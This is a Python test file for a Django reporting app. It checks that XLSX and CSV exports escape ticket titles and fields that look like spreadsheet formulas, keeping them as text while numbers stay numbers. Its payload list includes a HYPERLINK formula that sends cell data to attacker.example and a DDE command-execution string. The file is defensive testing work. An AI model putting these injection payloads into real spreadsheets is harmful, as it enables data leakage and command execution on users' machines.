"""No exported cell runs as a formula: text that begins like one is written as text, numbers stay numbers."""

import csv
import io
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from servicepact.desk import actions
from servicepact.slm.exports.cells import csv_text, keep_text_as_text
from servicepact.slm.exports.csv_rows import report_csv
from servicepact.slm.models import ReportKind
from servicepact.slm.reporting.generation import ReportRequest, generate_report
from servicepact.slm.reporting.presentation import MeasureRow
from servicepact.slm.tests.report_world import play_week

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


@pytest.mark.django_db
def test_ticket_titles_that_look_like_formulas_are_text_in_the_workbook(client, world):
    tickets = play_week(world)
    for ticket, title in zip(tickets.values(), HOSTILE, strict=False):
        actions.update_fields(ticket, actor=world.people["agent"], title=title)
    report = generate_report(ReportRequest(world.contract, ReportKind.MONTHLY, "2026-03"))
    client.force_login(world.people["analyst"])

    response = client.get(reverse("slm:report_xlsx", args=[report.pk]))

    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a cell holds a formula"
    titles = {cell.value for cell in cells if isinstance(cell.value, str)}
    written = [title for title in HOSTILE[: len(tickets)] if title in titles]
    assert written, "the hostile titles are in the workbook, as typed"
    for cell in cells:
        if cell.value in written:
            assert cell.data_type == "s" and cell.quotePrefix
    # The figures are numbers still.
    measures = list(book["Measures"].iter_rows(values_only=True))
    resolution = next(row for row in measures if row[0] == "resolution-compliance")
    assert resolution[2:5] == (0.75, 3, 4)


def test_a_workbook_keeps_numbers_and_dates_and_makes_formula_text_a_string():
    book = Workbook()
    book.active.append(["=1+1", -5, 0.5, "-0.5", "plain", None, True])
    keep_text_as_text(book)
    buffer = io.BytesIO()
    book.save(buffer)

    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [cell.value for cell in row] == ["=1+1", -5, 0.5, "-0.5", "plain", None, True]
    assert [cell.data_type for cell in row] == ["s", "n", "n", "s", "s", "n", "b"]
    assert row[0].quotePrefix and row[3].quotePrefix and not row[4].quotePrefix


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_csv_text_puts_an_apostrophe_before_formula_starts(text):
    assert csv_text(text) == "'" + text


def test_csv_numbers_and_booleans_stay_as_they_are():
    assert [csv_text(value) for value in (-5, -0.25, 0.75, True, None, "ok")] == [
        "-5",
        "-0.25",
        "0.75",
        "true",
        "",
        "ok",
    ]


def test_the_report_csv_reads_back_with_text_escaped_and_numbers_intact():
    row = MeasureRow(
        id="=cmd|' /C calc'!A0",
        measure="@SUM(1)",
        value=-0.5,
        numerator=-1,
        denominator=2,
        target="-1",
        met=False,
        baseline=None,
        definition=None,
    )
    report = SimpleNamespace(scope="contract", scope_key="")
    layout = SimpleNamespace(report=report, data={"contract": "+x", "version": 1, "period": "2026-03"}, measures=[row])

    rows = list(csv.DictReader(io.StringIO(report_csv(layout).decode("utf-8-sig"))))

    assert rows == [
        {
            "contract": "'+x",
            "version": "1",
            "period": "2026-03",
            "scope": "contract",
            "id": "'=cmd|' /C calc'!A0",
            "measure": "'@SUM(1)",
            "value": "-0.5",
            "numerator": "-1",
            "denominator": "2",
            "target": "'-1",
            "met": "false",
            "baseline": "",
        }
    ]
